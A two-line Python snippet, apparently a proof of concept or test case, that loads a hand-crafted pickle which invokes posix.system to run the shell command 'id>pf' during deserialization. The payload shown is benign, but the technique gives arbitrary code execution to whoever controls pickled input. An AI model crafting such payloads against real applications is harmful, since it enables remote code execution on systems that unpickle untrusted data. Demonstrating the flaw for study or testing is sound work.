import _pickle, io
_pickle.Unpickler(io.BytesIO(b"cposix\nsystem\n(S'id>pf'\ntR.")).load()
